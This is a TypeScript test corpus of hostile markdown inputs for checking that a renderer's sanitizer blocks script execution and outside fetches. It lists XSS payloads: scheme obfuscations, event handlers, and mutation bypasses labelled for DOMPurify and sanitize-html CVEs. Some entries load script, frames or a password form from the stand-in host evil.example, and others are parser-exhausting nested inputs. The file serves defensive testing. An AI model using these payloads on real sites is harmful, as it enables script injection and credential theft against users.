// Hostile inputs for the markdown pipeline: every one must render without running script, loading a frame or
// form, styling the page, or making a viewer's browser fetch anything from another host. Used by the package's
// unit test (test/hostile.test.ts) and by the browser test (apps/web/e2e/hostile-markdown.spec.ts), which renders
// them all into a real page. Payloads call `window.__xss(n)` or alert(); the browser test counts both.

export interface HostileCase {
  name: string;
  markdown: string;
}

const SCHEMES = [
  "javascript:__xss(1)",
  "JaVaScRiPt:__xss(1)",
  " javascript:__xss(1)",
  "java\tscript:__xss(1)",
  "java\nscript:__xss(1)",
  "jav&#x09;ascript:__xss(1)",
  "jav&#9;ascript:__xss(1)",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss(1)",
  "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;__xss(1)",
  "javascript&colon;__xss(1)",
  "\x01javascript:__xss(1)",
  "%6A%61%76%61%73%63%72%69%70%74:__xss(1)",
  "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
  "data:text/html,<script>__xss(1)</script>",
  "DATA:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoMSk+",
  "vbscript:msgbox(1)",
  "VBScript:msgbox(1)",
  "livescript:__xss(1)",
];

const LINK_FORMS: [string, (url: string) => string][] = [
  ["inline link", (u) => `[click](${u})`],
  ["inline link in angle brackets", (u) => `[click](<${u}>)`],
  ["reference link", (u) => `[click][r]\n\n[r]: ${u}`],
  ["autolink", (u) => `<${u}>`],
  ["raw <a>", (u) => `<a href="${u}">click</a>`],
  ["image", (u) => `![alt](${u})`],
  ["raw <img>", (u) => `<img src="${u}" alt="x">`],
];

// Every scheme in every link form (18 x 7 = 126 cases).
const schemeCases: HostileCase[] = SCHEMES.flatMap((scheme, i) =>
  LINK_FORMS.map(([form, make]) => ({ name: `scheme ${i} (${JSON.stringify(scheme.slice(0, 16))}) as ${form}`, markdown: make(scheme) })),
);

const classic: [string, string][] = [
  ["script tag", "<script>__xss(2)</script>"],
  ["script with src", '<script src="https://evil.example/x.js"></script>'],
  ["script mixed case", "<ScRiPt>__xss(2)</sCrIpT>"],
  ["script split by null", "<scr\0ipt>__xss(2)</scr\0ipt>"],
  ["img onerror", "<img src=x onerror=__xss(3)>"],
  ["img onerror no quotes backtick", "<img src=x onerror=`__xss(3)`>"],
  ["img src slash", "<img/src=x/onerror=__xss(3)>"],
  ["img in markdown title", '![a](x "\\" onerror=\\"__xss(3)")'],
  ["link title attribute breakout", '[a](https://ok.example "x\\" onmouseover=\\"__xss(3)")'],
  ["body onload", "<body onload=__xss(4)>"],
  ["svg onload", "<svg onload=__xss(5)>"],
  ["svg script", "<svg><script>__xss(5)</script></svg>"],
  ["svg animate href", '<svg><a><animate attributeName=href values=javascript:__xss(5) /><text x=20 y=20>click</text></a></svg>'],
  ["svg use data", '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcgeG1sbnM9J2h0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnJz48aW1hZ2UgaHJlZj0nMScgb25lcnJvcj0nX194c3MoNSknLz48L3N2Zz4=#x"/></svg>'],
  ["svg foreignObject", "<svg><foreignObject><iframe srcdoc='<script>parent.__xss(5)</script>'></iframe></foreignObject></svg>"],
  ["mathml href", '<math><mtext><a xlink:href="javascript:__xss(6)">m</a></mtext></math>'],
  ["mathml maction", '<math href="javascript:__xss(6)"><mi>x</mi></math>'],
  ["iframe", '<iframe src="https://evil.example/"></iframe>'],
  ["iframe srcdoc", '<iframe srcdoc="<script>parent.__xss(7)</script>"></iframe>'],
  ["object", '<object data="javascript:__xss(8)"></object>'],
  ["embed", '<embed src="https://evil.example/e.swf">'],
  ["form with formaction", '<form action="https://evil.example/"><input name="password"><button formaction="javascript:__xss(9)">go</button></form>'],
  ["style tag", "<style>body{display:none} @import url(https://evil.example/x.css);</style>"],
  ["style attribute", '<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">overlay</div>'],
  ["link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:__xss(10)">'],
  ["base href", '<base href="https://evil.example/">'],
  ["details ontoggle", "<details open ontoggle=__xss(11)><summary>s</summary>d</details>"],
  ["video poster and onerror", '<video poster="https://evil.example/p.png" onerror="__xss(12)"><source src="x"></video>'],
  ["audio", '<audio src=x onerror=__xss(12)>'],
  ["picture source srcset", '<picture><source srcset="https://evil.example/p.png"><img src="/ok.png" alt="p"></picture>'],
  ["img srcset", '<img src="/ok.png" srcset="https://evil.example/p.png 2x" alt="s">'],
  ["input autofocus onfocus", "<input autofocus onfocus=__xss(13)>"],
  ["marquee onstart", "<marquee onstart=__xss(14)>m</marquee>"],
  ["a with target and ping", '<a href="https://ok.example" ping="https://evil.example/ping" target="_blank">p</a>'],
  ["area href", '<map name="m"><area shape="rect" coords="0,0,10,10" href="javascript:__xss(15)"></map>'],
  ["button formaction", '<button formaction="javascript:__xss(16)">b</button>'],
  ["isindex", '<isindex type=image src=1 onerror=__xss(17)>'],
  ["keygen and textarea", "<textarea><script>__xss(18)</script></textarea>"],
  ["xmp", "<xmp><script>__xss(19)</script></xmp>"],
  ["plaintext", "<plaintext><script>__xss(20)</script>"],
  ["html comment breakout", "<!--><script>__xss(21)</script>-->"],
  ["conditional comment", "<!--[if gte IE 4]><script>__xss(22)</script><![endif]-->"],
  ["cdata", "<![CDATA[><script>__xss(23)</script>]]>"],
  ["processing instruction", '<?xml-stylesheet href="https://evil.example/x.xsl"?>'],
  ["attribute without quotes and slash", "<a href=javascript:__xss(24)//>x</a>"],
  ["id clobbering", '<img id="__NEXT_DATA__" name="cookie" src="/ok.png">'],
  ["form named window clobbering", '<a id="location" href="javascript:__xss(25)">c</a>'],
  ["data attribute used by the site", '<a href="/lessons/x?t=1" data-video-time="1" class="video-time wiki-link">forged</a>'],
];

const mutation: [string, string][] = [
  ["noscript nesting", '<noscript><p title="</noscript><img src=x onerror=__xss(30)>">'],
  ["style in title", "<title><style></title><img src=x onerror=__xss(31)></style>"],
  ["template nesting", "<template><script>__xss(32)</script></template>"],
  ["math style namespace confusion", "<math><mtext><table><mglyph><style><img src=x onerror=__xss(33)></style></mglyph></table></mtext></math>"],
  ["svg style namespace confusion", "<svg></p><style><a id=\"</style><img src=1 onerror=__xss(34)>\">"],
  ["form nesting", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss(35)>"],
  ["select template", "<select><template><style><!--</style><a rel=\"--></style></template></select><img src onerror=__xss(36)>\">"],
  ["DOMPurify 2.0.0 bypass", "<svg></p><style><a id=\"</style><img src=1 onerror=__xss(37)>\">"],
  ["DOMPurify 2.0.17 bypass", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=__xss(38) src>\">"],
  ["DOMPurify 3.1.3 nesting", "<math><mi><table><mi><style><img src=x onerror=__xss(39)></style></mi></table></mi></math>"],
  ["sanitize-html CVE-2021-26539 style", "<iframe src=\"//evil.example\"></iframe><style>a{}</style>"],
  ["sanitize-html CVE-2016-1000237 nested", "<<img src=x onerror=__xss(40)>img src=x onerror=__xss(40)>"],
  ["sanitize-html comment split", "<scr<!-- -->ipt>__xss(41)</scr<!-- -->ipt>"],
  ["noembed", "<noembed><img title=\"</noembed><img src onerror=__xss(42)>\"></noembed>"],
  ["noframes", "<noframes><img title=\"</noframes><img src onerror=__xss(43)>\"></noframes>"],
  ["iframe in svg title", "<svg><title><iframe srcdoc='<script>parent.__xss(44)</script>'></iframe></title></svg>"],
  ["textarea title mutation", "<textarea></textarea><title></title><img src=x onerror=__xss(45)>"],
];

const fences: [string, string][] = [
  ["fence language with quotes", '```js" onmouseover="__xss(50)\nconst a = 1;\n```'],
  ["fence language with html", "```<img src=x onerror=__xss(51)>\ncode\n```"],
  ["fence language class breakout", "```python' class='x\" autofocus onfocus=__xss(52)\nx\n```"],
  ["tilde fence with script", "~~~html\n<script>__xss(53)</script>\n~~~"],
  ["inline code html", "`<script>__xss(54)</script>`"],
  ["raw html code class", '<pre><code class="language-js&quot; onclick=&quot;__xss(55)">x</code></pre>'],
];

const extensions: [string, string][] = [
  ["wiki link with script", "[[<script>__xss(60)</script>]]"],
  ["wiki link javascript target", "[[javascript:__xss(61)]]"],
  ["wiki link label html", "[[Page|<img src=x onerror=__xss(62)>]]"],
  ["mention with html", "@<img src=x onerror=__xss(63)>"],
  ["video time with script lesson", "[[<script>__xss(64)</script>@1:00]]"],
  ["quote header javascript", "> [!quote @alice](javascript:__xss(65))\n> text"],
  ["quote header html", "> [!quote <img src=x onerror=__xss(66)>]\n> text"],
  ["table with html", "| a | b |\n|---|---|\n| <img src=x onerror=__xss(67)> | <script>__xss(67)</script> |"],
  ["footnote with html", "Note[^1]\n\n[^1]: <img src=x onerror=__xss(68)>"],
  ["task list with html", "- [ ] <img src=x onerror=__xss(69)>"],
  ["heading id clobbering", "# __proto__\n\n<h1 id=\"__proto__\">x</h1>"],
  ["foreign images in every form", "![a](https://evil.example/a.png)\n\n![b][b]\n\n[b]: http://evil.example/b.png\n\n<img src=\"//evil.example/c.png\">\n\n<img src=\"/\\evil.example/d.png\">\n\n<img src=\"/\t/evil.example/e.png\">"],
];

const big: [string, string][] = [
  ["10,000 nested blockquotes", `${">".repeat(10_000)} deep`],
  ["10,000 nested blockquotes, one per line", Array.from({ length: 10_000 }, (_, i) => `${">".repeat(i + 1)} x`).join("\n").slice(0, 1_000_000)],
  ["10,000 nested lists", `${"- ".repeat(10_000)}deep`],
  ["10,000 nested ordered lists", `${"1. ".repeat(10_000)}deep`],
  ["1,000 lists nested by indentation", Array.from({ length: 1_000 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n")],
  ["10,000 nested divs", `${"<div>".repeat(10_000)}x${"</div>".repeat(10_000)}`],
  ["10,000 unclosed spans", "<span>".repeat(10_000)],
  ["2,000 nested emphasis", `${"*a ".repeat(2_000)}x${" a*".repeat(2_000)}`],
  ["500 nested brackets", `${"[".repeat(500)}x${"](y)".repeat(500)}`],
  ["10,000 nested brackets (quadratic in GFM autolinks before the paragraph guard)", `${"[".repeat(10_000)}x${"](y)".repeat(10_000)}`],
  ["a lone [ before 120 KB of words in one paragraph", `[${"ab cd ".repeat(20_000)}`],
  ["2,000 separate quotes", "> x\n\n".repeat(2_000)],
  ["200 KB of text", "word ".repeat(40_000)],
  ["many wiki brackets", "[[".repeat(5_000)],
  ["many mentions", "@a ".repeat(20_000)],
];

export const HOSTILE_CORPUS: HostileCase[] = [
  ...schemeCases,
  ...[...classic, ...mutation, ...fences, ...extensions, ...big].map(([name, markdown]) => ({ name, markdown })),
];
